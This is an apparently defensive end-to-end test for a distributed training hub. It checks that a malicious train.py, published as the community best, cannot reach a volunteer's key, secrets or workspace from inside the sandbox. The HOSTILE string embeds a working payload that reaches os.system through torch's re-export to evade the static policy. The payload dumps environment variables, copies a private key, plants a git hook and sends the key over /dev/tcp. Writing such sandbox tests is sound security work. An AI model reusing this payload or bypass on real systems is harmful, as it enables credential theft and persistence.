"""A hub serves a hostile train.py to a volunteer; the volunteer's secrets, key and workspace stay
untouched.

The static policy is a first filter, so the hostile file here is one it lets through: it reaches
``os.system`` through torch's own re-export (``torch.serialization.os``) and reads ``os.environ``.
Mallory publishes it with a calibration that makes it the community best; bob runs a real
``autoresearch join --yes`` process, which adopts the community best and trains it — inside the
sandbox. Then every target of the attack is checked from the host side.
"""

from __future__ import annotations

import socket
from pathlib import Path

import pytest
from e2e_support import Volunteer

from autoresearch.client.demo import HubServer
from autoresearch.client.hubclient import HubClient
from autoresearch.client.hubhooks import HubHooks
from autoresearch.client.join import register_key
from autoresearch.client.outbox import Outbox
from autoresearch.protocol import (
    CalibrationPoint,
    CalibrationRecord,
    CurveFit,
    ExperimentRecord,
    KeyPair,
    RunMetrics,
    SoftwareVersions,
    canonical_source_sha256,
    record_id,
    sha256_hex,
    sign,
    utc_now,
)
from autoresearch.protocol.source import unified_diff
from autoresearch.trainer import hardware, sandbox, tracks
from autoresearch.trainer.policy import check_source

TINY = tracks.get_track("tiny")
HW = hardware.hardware_class_for("cpu")  # bob's class: the community best he is offered is his class's
REFERENCE = tracks.reference_source(TINY)
SECRETS = {
    "ANTHROPIC_API_KEY": "fake-anthropic-key-for-tests-1",
    "AUTORESEARCH_HUB_TOKEN": "hub-token-SECRET-2",
    "MY_SERVICE_PASSWORD": "password-SECRET-3",
}

HOSTILE = '''
import os
print("HOSTILE-RAN", flush=True)
print("HOSTILE-ENV", sorted(os.environ.items()), flush=True)
_rc = torch.serialization.os.system(
    "cp {key} {ws}/stolen-key; cp {key} /tmp/stolen-key; "
    "printf '#!/bin/sh\\\\ntouch {ws}/hooked\\\\n' > {ws}/.git/hooks/post-commit; chmod +x {ws}/.git/hooks/post-commit; "
    "echo row >> {ws}/results.tsv; bash -c 'cat {key} > /dev/tcp/127.0.0.1/{port}'"
)
print("HOSTILE-SYSTEM", _rc, flush=True)
'''


def _hostile(key: Path, ws: Path, port: int) -> str:
    anchor = "import torch.nn.functional as F\n"
    return REFERENCE.replace(anchor, anchor + HOSTILE.format(key=key, ws=ws, port=port), 1)


def _mallory_publishes(url: str, child: str, tmp_path: Path) -> str:  # returns mallory's key id
    """Mallory: a calibration on the curve 2 + 1/t (2.25 at the 4 s budget, σ 0.01) and the hostile
    child at 2.20 (hub z = 5: the community best on its own)."""
    keys = KeyPair.generate()
    with HubClient(url) as client:
        outbox = Outbox(tmp_path / "mallory.sqlite")
        assert register_key(client, outbox, keys, "mallory", HW)
        points = [
            CalibrationPoint(budget_seconds=b, seed=s, val_bpb=2.0 + 1.0 / b, training_seconds=b, num_steps=10,
                             tokens_per_second=1000.0)
            for b, s in [(1.0, 0), (2.0, 0), (4.0, 0), (4.0, 1), (8.0, 0)]
        ]  # fmt: skip
        cal = CalibrationRecord(
            track=TINY.id, hardware_class=HW, harness_version=TINY.harness_version,
            software=SoftwareVersions(python="3.11"), reference_sha256=TINY.reference_sha256,
            time_budget_seconds=TINY.time_budget, points=points, fit=CurveFit(a=1.0, b=1.0, c=2.0, rmse=0.001),
            sigma=0.01, min_budget_seconds=1.0, max_budget_seconds=8.0, tokens_per_second=1000.0, matmul_tflops=0.1,
            created_at=utc_now(),
        )  # fmt: skip
        record = ExperimentRecord(
            track=TINY.id, parent_sha256=sha256_hex(REFERENCE), child_sha256=sha256_hex(child),
            parent_canonical_sha256=canonical_source_sha256(REFERENCE), child_canonical_sha256=canonical_source_sha256(child),
            diff=unified_diff(REFERENCE, child), description="faster warmdown", outcome="ok", status="keep",
            metrics=RunMetrics(val_bpb=2.20), parent_val_bpb=2.25, hardware_class=HW,
            software=SoftwareVersions(python="3.11"), harness_version=TINY.harness_version,
            calibration_id=record_id(cal), isolation="sandbox", created_at=utc_now(),
        )  # fmt: skip
        hooks = HubHooks(hub=client, outbox=outbox, sender=None, keys=keys, track=TINY.id, time_budget=TINY.time_budget,
                         hardware_class=HW)  # fmt: skip
        outbox.enqueue("calibration", sign(cal, keys))
        hooks.remember_source(child)
        hooks.publish(record)
        report = outbox.send_pending(client, force=True)
        assert report.pending == 0 and not report.rejected, report
        best = client.best(TINY.id, hardware_class=HW)
        assert best.experiment is not None and best.experiment.id == record_id(record), "mallory's run is not the best"
    return keys.key_id


def test_policy_lets_this_hostile_file_through() -> None:
    """The static policy is no boundary: this file passes it (only the sandbox stops it)."""
    assert check_source(_hostile(Path("/k"), Path("/w"), 9)) == []


@pytest.mark.slow
@pytest.mark.skipif(sandbox.detect().isolation != "sandbox", reason="no sandbox on this machine (autoresearch doctor)")
def test_a_hostile_community_best_cannot_touch_the_volunteer(
    hub: HubServer, volunteers: dict[str, Volunteer], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bob = volunteers["bob"]
    bob.cli("keys", "generate")
    key_file = bob.home / "keys" / "ed25519.pem"
    key_bytes = key_file.read_bytes()
    bob.cli("init", str(bob.workspace), "--track", "tiny")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.setblocking(False)
    hostile = _hostile(key_file, bob.workspace, listener.getsockname()[1])
    mallory = _mallory_publishes(hub.url, hostile, tmp_path)
    results_before = (bob.workspace / "results.tsv").read_text()
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    try:
        joined = bob.join(hub.url, 2, "--adopt-every", "1")
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()
    runs = [e for e in bob.ws.experiments() if e.kind == "run"]
    adopted = [e for e in runs if e.description.startswith("adopt community best") and mallory[:16] in e.description]
    assert adopted, ([e.description for e in runs], joined.stderr[-2000:])
    log = (bob.workspace / adopted[0].run_dir / "run.log").read_text()  # type: ignore[operator]
    assert "train.py| HOSTILE-RAN" in log and "train.py| HOSTILE-SYSTEM" in log, log[-3000:]
    # the attack ran and reached nothing
    assert key_file.read_bytes() == key_bytes
    assert not (bob.workspace / "stolen-key").exists() and not Path("/tmp/stolen-key").exists()
    assert not (bob.workspace / "hooked").exists() and not (bob.workspace / ".git" / "hooks" / "post-commit").exists()
    assert "row" not in (bob.workspace / "results.tsv").read_text().replace(results_before, "").split()
    for logfile in (bob.workspace / ".autoresearch").rglob("run.log"):
        text = logfile.read_text()
        for value in SECRETS.values():
            assert value not in text, logfile
        assert "PRIVATE KEY" not in text and str(bob.home) not in text
    for exp in runs:
        assert exp.record is not None and exp.record.isolation == "sandbox"
        assert all(value not in (exp.record.error or "") for value in SECRETS.values())
